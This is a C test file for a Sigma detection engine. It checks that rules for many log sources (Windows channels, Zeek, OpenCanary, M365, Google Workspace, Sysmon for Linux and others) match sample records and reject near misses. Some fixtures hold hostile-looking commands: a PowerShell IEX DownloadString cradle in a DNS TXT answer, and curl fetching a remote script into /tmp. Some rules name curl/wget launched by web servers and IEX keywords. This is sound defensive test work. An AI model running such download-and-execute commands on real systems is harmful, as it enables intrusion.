/*
 * test_sigma_logsources.c - the logsource mapping's entries for Windows
 * channels beyond the core ones, RPC Firewall, Bitbucket, M365, Google
 * Workspace, OneLogin, OpenCanary and Zeek (configs/sigma/logsources.yaml).
 *
 * Set up as test_sigma.c: the default mapping plus rules written here in
 * SigmaHQ's form. Each source family gets a record in the shape the product
 * documents that must match, and a near miss (another channel, provider or
 * log type, or the field different) that must not. The last tests load the
 * real SigmaHQ rules of some of these logsources from ../shared/data and
 * require every one loaded, none skipped.
 */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "parsers/parser.h"
#include "rules/matcher.h"
#include "testutil.h"

static char *dir;
static char err[16384];
static struct cr_ruleset *rs;
static struct cr_matcher *m;
static struct cr_parser *parser;

static void put(const char *name, const char *text)
{
    char path[1200];
    snprintf(path, sizeof path, "%s/%s", dir, name);
    cr_assert_eq(cr_test_write_file(path, text, strlen(text)), 0);
}

/* The default mapping plus the rule directories given (dir when none). */
static void start_with(const char *const *extra, int nextra)
{
    const char *paths[8] = {cr_test_source_path("configs/sigma")};
    int n = 1;
    if (nextra == 0)
        paths[n++] = dir;
    for (int i = 0; i < nextra; i++)
        paths[n++] = extra[i];
    err[0] = 0;
    rs = cr_ruleset_load(paths, n, NULL, err, sizeof err);
    cr_assert_not_null(rs, "%s", err);
    m = cr_matcher_new(rs);
    cr_assert_not_null(m);
    struct cr_parse_opts o = {.format = CR_FMT_AUTO, .year = 2026};
    o.extra_names = rs->field_names;
    o.n_extra_names = (unsigned)rs->nfields;
    parser = cr_parser_new(&o);
    cr_assert_not_null(parser);
}

static void start(void)
{
    start_with(NULL, 0);
    cr_assert_eq(rs->sigma.skipped, 0, "%s", rs->sigma.skips ? rs->sigma.skips : "");
}

static void setup(void)
{
    dir = cr_test_tmpdir();
    cr_assert_not_null(dir);
}

static void teardown(void)
{
    cr_parser_free(parser);
    cr_matcher_free(m);
    cr_ruleset_free(rs);
    parser = NULL;
    m = NULL;
    rs = NULL;
    cr_test_rmtree(dir);
    free(dir);
}

TestSuite(sigma_logsources);

/* Titles of the rules a record matches, space-separated. */
static const char *matches(const char *rec)
{
    static char buf[4096];
    struct cr_event ev;
    cr_parse(parser, rec, strlen(rec), 0, &ev);
    uint32_t out[64];
    int n = cr_matcher_match(m, &ev, out, 64);
    cr_assert_geq(n, 0);
    buf[0] = 0;
    for (int i = 0; i < n; i++) {
        strcat(buf, i ? "|" : "");
        strcat(buf, rs->rules[out[i]].title);
    }
    return buf;
}

#define RULE(id, title, logsource, detection)                                                      \
    "title: " title "\nid: " id "\nstatus: test\nauthor: corral tests\nlevel: high\n"              \
    "tags:\n  - attack.execution\n"                                                                \
    "logsource:\n" logsource "detection:\n" detection

/* AppX deployment from a URL (event 854) in NXLog's flat shape, DNS client
 * queries (3008) in Winlogbeat's, SMB client security (31017) in evtx_dump's. */
Test(sigma_logsources, windows_channels_select_by_channel_name, .init = setup, .fini = teardown)
{
    put("appx.yml", RULE("00000000-0000-0000-0000-00000000a001", "appx from url",
                         "  product: windows\n  service: appxdeployment-server\n",
                         "  selection:\n    EventID: 854\n    Path|contains: 'http'\n"
                         "  condition: selection\n"));
    put("dns.yml", RULE("00000000-0000-0000-0000-00000000a002", "dns client query",
                        "  product: windows\n  service: dns-client\n",
                        "  selection:\n    EventID: 3008\n    QueryName|endswith: '.ngrok.io'\n"
                        "  condition: selection\n"));
    put("smb.yml", RULE("00000000-0000-0000-0000-00000000a003", "smb guest logon",
                        "  product: windows\n  service: smbclient-security\n",
                        "  selection:\n    EventID: 31017\n  condition: selection\n"));
    put("mit.yml", RULE("00000000-0000-0000-0000-00000000a004", "mitigation",
                        "  product: windows\n  service: security-mitigations\n",
                        "  selection:\n    EventID: [10, 12]\n  condition: selection\n"));
    start();
    const char *appx = "{\"EventID\":854,\"Channel\":\"Microsoft-Windows-AppXDeploymentServer/"
                       "Operational\",\"SourceName\":\"Microsoft-Windows-AppXDeployment-Server\","
                       "\"Hostname\":\"WS1\",\"EventTime\":\"2026-10-18 10:56:18\","
                       "\"Path\":\"https://files.example.net/app.msix\"}";
    cr_assert_str_eq(matches(appx), "appx from url");
    /* the same event id and data in another channel (AppxPackaging) */
    cr_assert_str_eq(matches("{\"EventID\":854,\"Channel\":\"Microsoft-Windows-AppxPackaging/"
                             "Operational\",\"Hostname\":\"WS1\","
                             "\"Path\":\"https://files.example.net/app.msix\"}"),
                     "");
    const char *dns = "{\"@timestamp\":\"2026-10-18T10:56:18Z\",\"host\":{\"name\":\"WS6\"},"
                      "\"winlog\":{\"channel\":\"Microsoft-Windows-DNS Client Events/Operational\","
                      "\"provider_name\":\"Microsoft-Windows-DNS-Client\",\"event_id\":3008,"
                      "\"event_data\":{\"QueryName\":\"abcd.ngrok.io\",\"QueryType\":\"1\","
                      "\"QueryOptions\":\"140737488363520\",\"QueryStatus\":\"0\"}}}";
    cr_assert_str_eq(matches(dns), "dns client query");
    cr_assert_str_eq(matches("{\"winlog\":{\"channel\":\"Microsoft-Windows-DNS Client Events/"
                             "Operational\",\"event_id\":3008,\"event_data\":{\"QueryName\":"
                             "\"www.example.com\"}}}"),
                     "");
    const char *smb = "{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":"
                      "\"Microsoft-Windows-SMBClient\"}},\"EventID\":31017,\"Channel\":"
                      "\"Microsoft-Windows-SmbClient/Security\",\"Computer\":\"WS2\"},"
                      "\"EventData\":{\"UserName\":\"\",\"ServerName\":\"\\\\\\\\fs01\"}}}";
    cr_assert_str_eq(matches(smb), "smb guest logon");
    cr_assert_str_eq(
        matches("{\"Event\":{\"System\":{\"EventID\":31017,\"Channel\":"
                "\"Microsoft-Windows-SmbClient/Connectivity\",\"Computer\":\"WS2\"}}}"),
        "");
    cr_assert_str_eq(matches("{\"EventID\":12,\"Channel\":\"Microsoft-Windows-Security-"
                             "Mitigations/User Mode\",\"Hostname\":\"WS3\"}"),
                     "mitigation");
    cr_assert_str_eq(matches("{\"EventID\":10,\"Channel\":\"Microsoft-Windows-Security-"
                             "Mitigations/Kernel Mode\",\"Hostname\":\"WS3\"}"),
                     "mitigation");
    cr_assert_str_eq(matches("{\"EventID\":12,\"Channel\":\"System\",\"Hostname\":\"WS3\"}"), "");
}

/* Sysmon 2 (file creation time changed) and 29 (executable detected). */
Test(sigma_logsources, sysmon_file_change_and_executable_detected, .init = setup, .fini = teardown)
{
    put("fc.yml",
        RULE("00000000-0000-0000-0000-00000000a011", "timestomp",
             "  product: windows\n  category: file_change\n",
             "  selection:\n    TargetFilename|endswith: '.exe'\n  condition: selection\n"));
    put("fe.yml", RULE("00000000-0000-0000-0000-00000000a012", "exe dropped",
                       "  product: windows\n  category: file_executable_detected\n",
                       "  selection:\n    TargetFilename|contains: '\\Temp\\'\n"
                       "  condition: selection\n"));
    start();
    cr_assert_str_eq(matches("{\"EventID\":2,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
                             "\"Hostname\":\"WS5\",\"TargetFilename\":\"C:\\\\Users\\\\a\\\\"
                             "Temp\\\\x.exe\",\"CreationUtcTime\":\"2019-01-01 00:00:00.000\"}"),
                     "timestomp");
    cr_assert_str_eq(matches("{\"EventID\":29,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
                             "\"Hostname\":\"WS5\",\"TargetFilename\":\"C:\\\\Users\\\\a\\\\"
                             "Temp\\\\x.dll\"}"),
                     "exe dropped");
    /* Sysmon 11 (file created) is neither */
    cr_assert_str_eq(matches("{\"EventID\":11,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
                             "\"Hostname\":\"WS5\",\"TargetFilename\":\"C:\\\\Users\\\\a\\\\"
                             "Temp\\\\x.exe\"}"),
                     "");
}

/* RPC Firewall's events: its own RPCFW log, message-file events whose data
 * Winlogbeat ships as param1..param12 (RPC_SERVER_CALL: %7 InterfaceUuid,
 * %8 OpNum, per RPC Firewall's Messages.mc). */
#define RPCFW(channel, uuid, opnum)                                                                \
    "{\"@timestamp\":\"2026-10-18T10:56:18Z\",\"winlog\":{\"channel\":\"" channel "\","            \
    "\"provider_name\":\"RPCFW\",\"event_id\":3,\"computer_name\":\"DC1\",\"event_data\":{"        \
    "\"param1\":\"RpcServerCall\",\"param2\":\"812\",\"param3\":"                                  \
    "\"C:\\\\Windows\\\\System32\\\\svchost.exe\",\"param4\":\"ncacn_np\",\"param5\":"             \
    "\"\\\\PIPE\\\\atsvc\",\"param6\":\"10.0.0.7\",\"param7\":\"" uuid "\",\"param8\":\"" opnum    \
    "\",\"param9\":\"S-1-5-21-1-2-3-1105\",\"param10\":\"6\",\"param11\":\"9\","                   \
    "\"param12\":\"49712\"}}}"
#define ATSVC "1ff70682-0a51-30e8-076d-740be8cee98b"

Test(sigma_logsources, rpc_firewall_is_its_own_rpcfw_log, .init = setup, .fini = teardown)
{
    put("rpc.yml", RULE("00000000-0000-0000-0000-00000000a021", "atsvc",
                        "  product: rpc_firewall\n  category: application\n",
                        "  selection:\n    EventLog: RPCFW\n    EventID: 3\n"
                        "    InterfaceUuid: " ATSVC "\n"
                        "    OpNum: [0, 1]\n  condition: selection\n"));
    start();
    cr_assert_str_eq(matches(RPCFW("RPCFW", ATSVC, "1")), "atsvc");
    /* the interface's other calls; the same event in the Application log */
    cr_assert_str_eq(matches(RPCFW("RPCFW", ATSVC, "2")), "");
    cr_assert_str_eq(matches(RPCFW("RPCFW", "12345778-1234-abcd-ef00-0123456789ac", "1")), "");
    cr_assert_str_eq(matches(RPCFW("Application", ATSVC, "1")), "");
}

/* Bitbucket Data Center's audit log and the Office 365 Management Activity API. */
Test(sigma_logsources, bitbucket_audit_and_m365_audit_records, .init = setup, .fini = teardown)
{
    put("bb.yml", RULE("00000000-0000-0000-0000-00000000a031", "bb export",
                       "  product: bitbucket\n  service: audit\n",
                       "  selection:\n    auditType.category: 'Data pipeline'\n"
                       "    auditType.action: 'Full data export triggered'\n"
                       "  condition: selection\n"));
    put("m365.yml", RULE("00000000-0000-0000-0000-00000000a032", "mfa off",
                         "  product: m365\n  service: audit\n",
                         "  selection:\n    Operation|contains: 'Disable Strong Authentication.'\n"
                         "  condition: selection\n"));
    start();
    const char *bb = "{\"affectedObjects\":[],\"auditType\":{\"action\":\"Full data export "
                     "triggered\",\"actionI18nKey\":\"bitbucket.service.datapipeline.audit."
                     "action.fullexporttriggered\",\"area\":\"ECOSYSTEM\",\"category\":\"Data "
                     "pipeline\",\"categoryI18nKey\":\"bitbucket.service.audit.category."
                     "datapipeline\",\"level\":\"BASE\"},\"author\":{\"avatarUri\":\"\",\"id\":"
                     "\"2\",\"name\":\"jdoe\",\"type\":\"NORMAL\"},\"changedValues\":[],"
                     "\"extraAttributes\":[],\"method\":\"Browser\",\"source\":\"10.0.0.9\","
                     "\"system\":\"https://bitbucket.example.com\",\"timestamp\":{"
                     "\"epochSecond\":1760784978,\"nano\":0},\"version\":\"1.0\"}";
    cr_assert_str_eq(matches(bb), "bb export");
    cr_assert_str_eq(matches("{\"auditType\":{\"action\":\"Repository created\",\"category\":"
                             "\"Repositories\"},\"author\":{\"name\":\"jdoe\"}}"),
                     "");
    /* the same words without Bitbucket's auditType envelope */
    cr_assert_str_eq(matches("{\"category\":\"Data pipeline\",\"action\":\"Full data export "
                             "triggered\",\"actor\":\"jdoe\"}"),
                     "");
    const char *m365 = "{\"CreationTime\":\"2026-10-18T10:56:18\",\"Id\":\"4f1c2a6e-0000-4a3e-"
                       "9f4b-1e2d3c4b5a69\",\"Operation\":\"Disable Strong Authentication.\","
                       "\"OrganizationId\":\"b2e1c1a0-1111-2222-3333-444455556666\","
                       "\"RecordType\":8,\"ResultStatus\":\"Success\",\"UserKey\":"
                       "\"10032000ABCDEF01@example.onmicrosoft.com\",\"UserType\":2,\"Version\":1,"
                       "\"Workload\":\"AzureActiveDirectory\",\"ObjectId\":\"bob@example.com\","
                       "\"UserId\":\"admin@example.com\",\"AzureActiveDirectoryEventType\":1}";
    cr_assert_str_eq(matches(m365), "mfa off");
    cr_assert_str_eq(matches("{\"CreationTime\":\"2026-10-18T10:56:18\",\"Operation\":\"Enable "
                             "Strong Authentication.\",\"RecordType\":8,\"Workload\":"
                             "\"AzureActiveDirectory\",\"UserId\":\"admin@example.com\"}"),
                     "");
    /* an Azure AD audit record from Azure Monitor is the azure/auditlogs logsource, not m365 */
    cr_assert_str_eq(matches("{\"category\":\"AuditLogs\",\"operationName\":\"Disable Strong "
                             "Authentication.\",\"Operation\":\"Disable Strong Authentication.\"}"),
                     "");
}

/* Google Workspace admin and login activity exported to Cloud Logging. */
#define GWS(service, method, event)                                                                \
    "{\"protoPayload\":{\"@type\":\"type.googleapis.com/google.cloud.audit.AuditLog\","            \
    "\"authenticationInfo\":{\"principalEmail\":\"admin@example.com\"},\"requestMetadata\":{"      \
    "\"callerIp\":\"198.51.100.7\"},\"serviceName\":\"" service "\",\"methodName\":\"" method      \
    "\",\"resourceName\":\"organizations/123456789\",\"metadata\":{\"@type\":"                     \
    "\"type.googleapis.com/ccc_hosted_reporting.ActivityProto\",\"activityId\":{\"timeUsec\":"     \
    "\"1760784978000000\",\"uniqQualifier\":\"-42\"},\"event\":[{\"eventName\":\"" event           \
    "\",\"eventType\":\"DELEGATED_ADMIN_SETTINGS\",\"parameter\":[{\"name\":\"ROLE_NAME\","        \
    "\"type\":\"TYPE_STRING\",\"value\":\"_SEED_ADMIN_ROLE\"}]}]}},\"insertId\":\"-abc123\","      \
    "\"resource\":{\"type\":\"audited_resource\",\"labels\":{\"service\":\"" service "\","         \
    "\"method\":\"" method "\"}},\"timestamp\":\"2026-10-18T10:56:18.000Z\",\"severity\":"         \
    "\"NOTICE\",\"logName\":\"organizations/123456789/logs/"                                       \
    "cloudaudit.googleapis.com%2Factivity\"}"

Test(sigma_logsources, google_workspace_admin_and_login_in_cloud_logging, .init = setup,
     .fini = teardown)
{
    put("adm.yml", RULE("00000000-0000-0000-0000-00000000a041", "admin granted",
                        "  product: gcp\n  service: google_workspace.admin\n",
                        "  selection:\n    eventService: admin.googleapis.com\n"
                        "    eventName: [GRANT_DELEGATED_ADMIN_PRIVILEGES, GRANT_ADMIN_PRIVILEGE]\n"
                        "  condition: selection\n"));
    put("login.yml", RULE("00000000-0000-0000-0000-00000000a042", "suspicious login",
                          "  product: gcp\n  service: google_workspace.login\n",
                          "  selection:\n    protoPayload.serviceName: 'login.googleapis.com'\n"
                          "    protoPayload.metadata.event.eventName: [suspicious_login, "
                          "suspicious_login_less_secure_app]\n"
                          "  condition: selection\n"));
    start();
    cr_assert_str_eq(
        matches(GWS("admin.googleapis.com", "google.admin.AdminService.grantAdminPrivilege",
                    "GRANT_ADMIN_PRIVILEGE")),
        "admin granted");
    cr_assert_str_eq(
        matches(GWS("admin.googleapis.com", "google.admin.AdminService.createRole", "CREATE_ROLE")),
        "");
    cr_assert_str_eq(matches(GWS("login.googleapis.com",
                                 "google.login.LoginService.suspiciousLogin", "suspicious_login")),
                     "suspicious login");
    /* the login event name under the admin service; a successful login */
    cr_assert_str_eq(matches(GWS("admin.googleapis.com",
                                 "google.login.LoginService.suspiciousLogin", "suspicious_login")),
                     "");
    cr_assert_str_eq(matches(GWS("login.googleapis.com", "google.login.LoginService.loginSuccess",
                                 "login_success")),
                     "");
}

/* OneLogin's Events API and OpenCanary's log lines. */
Test(sigma_logsources, onelogin_events_and_opencanary_lines, .init = setup, .fini = teardown)
{
    put("ol.yml", RULE("00000000-0000-0000-0000-00000000a051", "user assumed",
                       "  product: onelogin\n  service: onelogin.events\n",
                       "  selection:\n    event_type_id: 3\n  condition: selection\n"));
    put("oc.yml", RULE("00000000-0000-0000-0000-00000000a052", "canary ssh login",
                       "  product: opencanary\n  category: application\n",
                       "  selection:\n    logtype: 4002\n  condition: selection\n"));
    start();
    cr_assert_str_eq(matches("{\"id\":999999999,\"created_at\":\"2026-10-18T10:56:18.000Z\","
                             "\"account_id\":123456,\"user_id\":8000001,\"event_type_id\":3,"
                             "\"notes\":null,\"ipaddr\":\"203.0.113.20\",\"actor_user_id\":"
                             "8000002,\"assuming_acting_user_id\":null,\"role_id\":null,"
                             "\"app_id\":null,\"group_id\":null,\"otp_device_id\":null,"
                             "\"policy_id\":null,\"actor_system\":\"\",\"custom_message\":null,"
                             "\"role_name\":null,\"app_name\":null,\"group_name\":null,"
                             "\"actor_user_name\":\"Ann Admin\",\"user_name\":\"Bob User\","
                             "\"policy_name\":null,\"otp_device_name\":null,"
                             "\"operation_name\":null,\"directory_sync_run_id\":null,"
                             "\"directory_id\":null,\"resolution\":null,\"client_id\":null,"
                             "\"resource_type_id\":null,\"error_description\":null}"),
                     "user assumed");
    cr_assert_str_eq(matches("{\"id\":1,\"created_at\":\"2026-10-18T10:56:18.000Z\","
                             "\"account_id\":123456,\"event_type_id\":5,\"user_name\":\"Bob\"}"),
                     "");
    /* event_type_id outside a OneLogin record (no account_id) */
    cr_assert_str_eq(matches("{\"event_type_id\":3,\"user_name\":\"Bob\"}"), "");
    const char *oc = "{\"dst_host\":\"10.0.0.5\",\"dst_port\":22,\"local_time\":\"2026-10-18 "
                     "10:56:18.123456\",\"local_time_adjusted\":\"2026-10-18 10:56:18.123456\","
                     "\"logdata\":{\"LOCALVERSION\":\"SSH-2.0-OpenSSH_5.1p1 Debian-4\","
                     "\"PASSWORD\":\"123456\",\"REMOTEVERSION\":\"SSH-2.0-libssh2_1.4.3\","
                     "\"USERNAME\":\"root\"},\"logtype\":4002,\"node_id\":\"opencanary-1\","
                     "\"src_host\":\"203.0.113.9\",\"src_port\":51234,\"utc_time\":"
                     "\"2026-10-18 10:56:18.123456\"}";
    cr_assert_str_eq(matches(oc), "canary ssh login");
    cr_assert_str_eq(matches("{\"dst_host\":\"10.0.0.5\",\"dst_port\":22,\"logdata\":{"
                             "\"SESSION\":\"7\"},\"logtype\":4000,\"node_id\":\"opencanary-1\","
                             "\"src_host\":\"203.0.113.9\"}"),
                     "");
    cr_assert_str_eq(matches("{\"logtype\":4002,\"src_host\":\"203.0.113.9\"}"), "");
}

/* Zeek JSON logs, told apart by _path; id.orig_h is a flat key. */
Test(sigma_logsources, zeek_log_type_is_the_path_field, .init = setup, .fini = teardown)
{
    put("efs.yml", RULE("00000000-0000-0000-0000-00000000a061", "efs rpc",
                        "  product: zeek\n  service: dce_rpc\n",
                        "  selection:\n    operation|startswith: 'efs'\n  condition: selection\n"));
    put("dns.yml",
        RULE("00000000-0000-0000-0000-00000000a062", "pool dns",
             "  product: zeek\n  service: dns\n",
             "  selection:\n    query|endswith: '.minergate.com'\n"
             "  exclude:\n    rejected: 'true'\n  condition: selection and not exclude\n"));
    put("rdp.yml", RULE("00000000-0000-0000-0000-00000000a063", "rdp from outside",
                        "  product: zeek\n  service: rdp\n",
                        "  selection:\n    id.orig_h|cidr: ['10.0.0.0/8', '192.168.0.0/16']\n"
                        "  condition: not selection\n"));
    start();
    const char *dce =
        "{\"_path\":\"dce_rpc\",\"_write_ts\":\"2026-10-18T10:56:18.200Z\","
        "\"ts\":1760784978.123456,\"uid\":\"CHhAvVGS1DHFjwGM9\",\"id.orig_h\":"
        "\"10.0.0.7\",\"id.orig_p\":49712,\"id.resp_h\":\"10.0.0.1\",\"id.resp_p\":445,"
        "\"rtt\":0.000412,\"named_pipe\":\"\\\\pipe\\\\lsass\",\"endpoint\":"
        "\"efsrpc\",\"operation\":\"EfsRpcOpenFileRaw\"}";
    cr_assert_str_eq(matches(dce), "efs rpc");
    /* the same field in another log type */
    cr_assert_str_eq(
        matches("{\"_path\":\"smb_cmd\",\"ts\":1760784978.1,\"id.orig_h\":\"10.0.0.7\","
                "\"operation\":\"EfsRpcOpenFileRaw\"}"),
        "");
    const char *dns =
        "{\"_path\":\"dns\",\"ts\":1760784978.5,\"uid\":\"C1\",\"id.orig_h\":"
        "\"10.0.0.8\",\"id.orig_p\":53211,\"id.resp_h\":\"10.0.0.2\",\"id.resp_p\":53,"
        "\"proto\":\"udp\",\"trans_id\":4321,\"query\":\"xmr.pool.minergate.com\","
        "\"qclass\":1,\"qclass_name\":\"C_INTERNET\",\"qtype\":1,\"qtype_name\":\"A\","
        "\"rcode\":0,\"rcode_name\":\"NOERROR\",\"AA\":false,\"TC\":false,\"RD\":true,"
        "\"RA\":true,\"Z\":0,\"answers\":[\"94.130.12.27\"],\"TTLs\":[300.0],"
        "\"rejected\":false}";
    cr_assert_str_eq(matches(dns), "pool dns");
    cr_assert_str_eq(matches("{\"_path\":\"dns\",\"ts\":1760784978.5,\"id.orig_h\":\"10.0.0.8\","
                             "\"query\":\"xmr.pool.minergate.com\",\"rejected\":true}"),
                     "");
    cr_assert_str_eq(matches("{\"_path\":\"rdp\",\"ts\":1760784978.5,\"uid\":\"C2\",\"id.orig_h\":"
                             "\"198.51.100.4\",\"id.orig_p\":50000,\"id.resp_h\":\"10.0.0.3\","
                             "\"id.resp_p\":3389,\"cookie\":\"admin\",\"result\":\"encrypted\"}"),
                     "rdp from outside");
    cr_assert_str_eq(matches("{\"_path\":\"rdp\",\"ts\":1760784978.5,\"id.orig_h\":\"10.1.2.3\","
                             "\"id.resp_h\":\"10.0.0.3\",\"id.resp_p\":3389}"),
                     "");
    /* not a Zeek rdp record at all: no _path */
    cr_assert_str_eq(matches("{\"id.orig_h\":\"198.51.100.4\",\"id.resp_p\":3389}"), "");
}

/* The product-less dns category on Zeek's dns log: answer and record_type
 * are Zeek's answers and qtype_name. */
Test(sigma_logsources, dns_category_is_zeek_dns, .init = setup, .fini = teardown)
{
    put("txt.yml", RULE("00000000-0000-0000-0000-00000000a071", "txt payload", "  category: dns\n",
                        "  selection:\n    record_type: 'TXT'\n"
                        "    answer|contains: ['IEX', 'Invoke-Expression']\n"
                        "  condition: selection\n"));
    start();
    const char *rec =
        "{\"_path\":\"dns\",\"ts\":1760784978.5,\"uid\":\"C4\",\"id.orig_h\":"
        "\"10.0.0.8\",\"id.orig_p\":53211,\"id.resp_h\":\"10.0.0.2\",\"id.resp_p\":53,"
        "\"proto\":\"udp\",\"query\":\"stage.example.net\",\"qtype\":16,"
        "\"qtype_name\":\"TXT\",\"rcode_name\":\"NOERROR\",\"answers\":["
        "\"TXT 34 IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"],"
        "\"TTLs\":[60.0],\"rejected\":false}";
    cr_assert_str_eq(matches(rec), "txt payload");
    /* the same answer in an A-record query; the same text outside the dns log */
    cr_assert_str_eq(matches("{\"_path\":\"dns\",\"id.orig_h\":\"10.0.0.8\",\"qtype_name\":"
                             "\"A\",\"answers\":[\"IEX\"]}"),
                     "");
    cr_assert_str_eq(matches("{\"_path\":\"http\",\"id.orig_h\":\"10.0.0.8\",\"qtype_name\":"
                             "\"TXT\",\"answers\":[\"IEX\"]}"),
                     "");
}

/* Apache's and nginx's error logs through syslog: keyword rules over the
 * message of the server's own program only. */
Test(sigma_logsources, apache_and_nginx_error_logs_through_syslog, .init = setup, .fini = teardown)
{
    put("ap.yml",
        RULE("00000000-0000-0000-0000-00000000a081", "apache segfault", "  service: apache\n",
             "  keywords:\n    - 'exit signal Segmentation Fault'\n"
             "  condition: keywords\n"));
    put("ng.yml", RULE("00000000-0000-0000-0000-00000000a082", "nginx core", "  service: nginx\n",
                       "  keywords:\n    - 'exited on signal 6 (core dumped)'\n"
                       "  condition: keywords\n"));
    start();
    cr_assert_str_eq(matches("<187>Oct 18 10:56:18 web1 apache2[1234]: [core:notice] [pid 1234] "
                             "AH00052: child pid 5678 exit signal Segmentation fault (11)"),
                     "apache segfault");
    cr_assert_str_eq(matches("<11>Oct 18 10:56:18 web2 nginx: 2026/10/18 10:56:18 [alert] "
                             "1234#1234: worker process 5678 exited on signal 6 (core dumped)"),
                     "nginx core");
    /* the same words from other programs */
    cr_assert_str_eq(matches("<4>Oct 18 10:56:18 web1 kernel: php-fpm[5678]: exit signal "
                             "Segmentation fault (11)"),
                     "");
    cr_assert_str_eq(matches("<11>Oct 18 10:56:18 web2 systemd[1]: nginx.service: worker "
                             "exited on signal 6 (core dumped)"),
                     "");
}

/* SigmaHQ's own rules for Zeek, OpenCanary, Bitbucket and RPC Firewall load,
 * none skipped, and real ones fire on the records those products ship. */
Test(sigma_logsources, sigmahq_rules_of_these_logsources_load, .init = setup, .fini = teardown)
{
    char zeek[1024], canary[1024], bb[1024], rpc[1024];
    const char *root = cr_test_shared_path("sigmahq-rules/rules/network/zeek");
    cr_test_need_shared(root, "../shared/data/sigmahq-rules absent");
    snprintf(zeek, sizeof zeek, "%s", root);
    snprintf(canary, sizeof canary, "%s",
             cr_test_shared_path("sigmahq-rules/rules/application/opencanary"));
    snprintf(bb, sizeof bb, "%s", cr_test_shared_path("sigmahq-rules/rules/application/bitbucket"));
    snprintf(rpc, sizeof rpc, "%s",
             cr_test_shared_path("sigmahq-rules/rules/application/rpc_firewall"));
    const char *extra[] = {zeek, canary, bb, rpc};
    start_with(extra, 4);
    cr_assert_eq(rs->sigma.skipped, 0, "%s", rs->sigma.skips ? rs->sigma.skips : "");
    cr_assert_eq(rs->sigma.loaded, 21 + 24 + 14 + 17, "%d", rs->sigma.loaded);
    cr_assert_str_eq(matches("{\"dst_host\":\"10.0.0.5\",\"dst_port\":22,\"logdata\":{"
                             "\"USERNAME\":\"root\",\"PASSWORD\":\"x\"},\"logtype\":4002,"
                             "\"node_id\":\"opencanary-1\",\"src_host\":\"203.0.113.9\","
                             "\"src_port\":51234,\"utc_time\":\"2026-10-18 10:56:18.123456\"}"),
                     "OpenCanary - SSH Login Attempt");
    cr_assert_str_eq(matches("{\"_path\":\"dce_rpc\",\"ts\":1760784978.1,\"uid\":\"C3\","
                             "\"id.orig_h\":\"10.0.0.7\",\"id.orig_p\":49712,\"id.resp_h\":"
                             "\"10.0.0.1\",\"id.resp_p\":445,\"named_pipe\":\"\\\\pipe\\\\lsass\","
                             "\"endpoint\":\"efsrpc\",\"operation\":\"EfsRpcOpenFileRaw\"}"),
                     "Potential PetitPotam Attack Via EFS RPC Calls");
}

/* A Sysmon for Linux record as rsyslog passes it on (event_xml.c reads the XML) */
static const char *lsysmon(const char *id, const char *data)
{
    static char rec[8192];
    snprintf(
        rec, sizeof rec,
        "<134>Mar  2 08:15:01 app-07 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" "
        "Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/><EventID>%s</EventID><Version>5"
        "</Version><Level>4</Level><TimeCreated SystemTime=\"2026-03-02T08:15:01.123456000Z\"/>"
        "<EventRecordID>4411</EventRecordID><Channel>Linux-Sysmon/Operational</Channel>"
        "<Computer>app-07</Computer></System><EventData>%s</EventData></Event>",
        id, data);
    return rec;
}

/* Linux process_creation is Sysmon for Linux event 1 (the taxonomy): the
 * XML it writes to syslog and the same event as evtx_dump JSON both match;
 * Windows Sysmon's event 1 and Linux Sysmon's event 3 do not. The rule is
 * ingress tool transfer by a web server's child (T1105). */
Test(sigma_logsources, linux_process_creation_is_sysmon_for_linux, .init = setup, .fini = teardown)
{
    put("dl.yml", RULE("00000000-0000-0000-0000-00000000a0f1", "web server child downloads",
                       "  product: linux\n  category: process_creation\n",
                       "  parent:\n    ParentImage|endswith: ['/apache2', '/nginx', '/httpd']\n"
                       "  tool:\n    Image|endswith: ['/curl', '/wget']\n"
                       "  condition: parent and tool\n"));
    start();
    const char *data = "<Data Name=\"RuleName\">-</Data><Data Name=\"ProcessId\">20711</Data>"
                       "<Data Name=\"Image\">/usr/bin/curl</Data><Data Name=\"CommandLine\">"
                       "curl -s http://198.51.100.7/x.sh -o /tmp/.x</Data><Data "
                       "Name=\"User\">www-data</Data><Data Name=\"ParentImage\">/usr/sbin/apache2"
                       "</Data>";
    cr_assert_str_eq(matches(lsysmon("1", data)), "web server child downloads");
    /* evtx_dump's JSON of the same event */
    cr_assert_str_eq(matches("{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":"
                             "\"Linux-Sysmon\"}},\"EventID\":1,\"Channel\":\"Linux-Sysmon/"
                             "Operational\",\"Computer\":\"app-07\"},\"EventData\":{\"Image\":"
                             "\"/usr/bin/wget\",\"ParentImage\":\"/usr/sbin/nginx\"}}}"),
                     "web server child downloads");
    /* the same event from Windows Sysmon's channel, and Linux Sysmon's network event */
    cr_assert_str_eq(matches("{\"Event\":{\"System\":{\"EventID\":1,\"Channel\":\"Microsoft-"
                             "Windows-Sysmon/Operational\"},\"EventData\":{\"Image\":"
                             "\"/usr/bin/wget\",\"ParentImage\":\"/usr/sbin/nginx\"}}}"),
                     "");
    cr_assert_str_eq(matches(lsysmon("3", data)), "");
    /* a parent that is not a web server */
    cr_assert_str_eq(matches(lsysmon("1", "<Data Name=\"Image\">/usr/bin/curl</Data>"
                                          "<Data Name=\"ParentImage\">/usr/bin/bash</Data>")),
                     "");
}

/* SigmaHQ's Linux process_creation, file_event and network_connection rules
 * all load, and real ones fire on Sysmon for Linux's records. */
Test(sigma_logsources, sigmahq_linux_sysmon_rules_load, .init = setup, .fini = teardown)
{
    char pc[1024], fe[1024], nc[1024];
    const char *root = cr_test_shared_path("sigmahq-rules/rules/linux/process_creation");
    cr_test_need_shared(root, "../shared/data/sigmahq-rules absent");
    snprintf(pc, sizeof pc, "%s", root);
    snprintf(fe, sizeof fe, "%s", cr_test_shared_path("sigmahq-rules/rules/linux/file_event"));
    snprintf(nc, sizeof nc, "%s",
             cr_test_shared_path("sigmahq-rules/rules/linux/network_connection"));
    const char *extra[] = {pc, fe, nc};
    start_with(extra, 3);
    cr_assert_eq(rs->sigma.skipped, 0, "%s", rs->sigma.skips ? rs->sigma.skips : "");
    cr_assert_eq(rs->sigma.loaded, 122 + 8 + 5, "%d", rs->sigma.loaded);
